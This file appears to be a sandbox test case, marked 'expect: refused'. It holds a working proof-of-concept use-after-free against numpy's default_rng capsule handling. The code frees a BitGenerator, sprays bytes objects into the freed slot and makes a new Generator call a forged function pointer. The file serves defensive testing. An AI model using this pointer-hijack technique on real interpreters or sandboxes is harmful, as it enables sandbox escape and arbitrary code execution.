# class: numpy_raw_memory
# expect: refused
# attack: np.random.default_rng(seed) duck-types its seed: any object with a `capsule` attribute holding a valid "BitGenerator" PyCapsule is wrapped as a Generator, which copies the bitgen_t struct (state pointer, function pointers) the capsule points to. A capsule does not keep its BitGenerator alive: take one, drop the generator (its memory is freed), refill the freed 176-byte pymalloc slot with bytes objects of that size, and a new Generator copies the program's bytes as function pointers; rng.random() calls next_double = 0x4141414141414141 with state = 0x4242424242424242
class Seed:
    pass

keep = np.random.default_rng(2)
capsule = np.random.default_rng(1).bit_generator.capsule   # its Generator and PCG64 die at once
seed = Seed()
seed.capsule = capsule
seed.lock = keep.bit_generator.lock
payload = b"S" * 16 + b"\x42" * 8 + b"\x41" * 8 * 4       # state, next_uint64, next_uint32, next_double, next_raw
spray = [payload + b"T" * (143 - len(payload)) + b"" for i in range(200)]
rng = np.random.default_rng(seed)
print("wrapped:", rng)
print("draw:", rng.random())
